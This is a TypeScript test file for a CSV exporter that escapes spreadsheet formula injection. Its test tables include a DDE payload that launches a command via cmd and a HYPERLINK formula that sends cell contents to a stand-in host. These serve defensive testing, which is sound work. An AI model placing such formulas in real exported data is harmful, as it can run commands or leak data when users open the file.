import { expect, test } from 'vitest'
import { csvWithoutFormulas, rowsAsCsv } from './rows-as-csv.ts'

test('each row is a line that ends in CRLF', () => {
  expect(csvWithoutFormulas(['a', 'b'], [['1', '2']])).toBe('a,b\r\n1,2\r\n')
})

test.each([
  ['a,b', '"a,b"'],
  ['say "hi"', '"say ""hi"""'],
  ['two\nlines', '"two\nlines"'],
  [' space', '" space"'],
  ['', '""'],
  [null, ''],
  ['9007199254740993', '9007199254740993'],
])('%j is written as %s', (value, expected) => {
  expect(csvWithoutFormulas(['x', 'y'], [[value, 'end']])).toBe(`x,y\r\n${expected},end\r\n`)
})

test.each([
  [`=1+2`, `'=1+2`],
  [`+1+2`, `'+1+2`],
  [`-1+2`, `'-1+2`],
  [`@SUM(A1)`, `'@SUM(A1)`],
  [`\t=1`, `"'\t=1"`],
  [`\r=1`, `"'\r=1"`],
  [`\n=1`, `"'\n=1"`],
  [`＝1+2`, `'＝1+2`],
  [`=HYPERLINK("http://x.test?"&A1,"y")`, `"'=HYPERLINK(""http://x.test?""&A1,""y"")"`],
  [`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`],
  [`-1\n=1`, `"'-1\n=1"`],
  [`harmless;=1+2`, `"harmless;=1+2"`],
  [`harmless\t=1+2`, `"harmless\t=1+2"`],
])('the text %j is written as %s, so that no spreadsheet runs it', (value, expected) => {
  expect(csvWithoutFormulas(['x', 'y'], [[value, 'end']])).toBe(`x,y\r\n${expected},end\r\n`)
})

test('the name of a column is no formula either', () => {
  expect(csvWithoutFormulas(['=1+2'], [])).toBe(`'=1+2\r\n`)
})

test.each(['-1.5', '+1', '-0', '-9007199254740993', '1e-7', '-1e+300', '-.5', '-Infinity', '-infinity', `a=b`, `it's`])(
  '%s stays as it is',
  (value) => {
    expect(csvWithoutFormulas(['x'], [[value]])).toBe(`x\r\n${value}\r\n`)
  },
)

test('the other kind of CSV has every value as it is', () => {
  expect(
    rowsAsCsv(
      ['=a', 'b'],
      [
        ['=1+2', null],
        ['-x', ''],
        ['a,b', 'say "hi" now'],
      ],
    ),
  ).toBe('=a,b\r\n=1+2,\r\n-x,""\r\n"a,b","say ""hi"" now"\r\n')
})
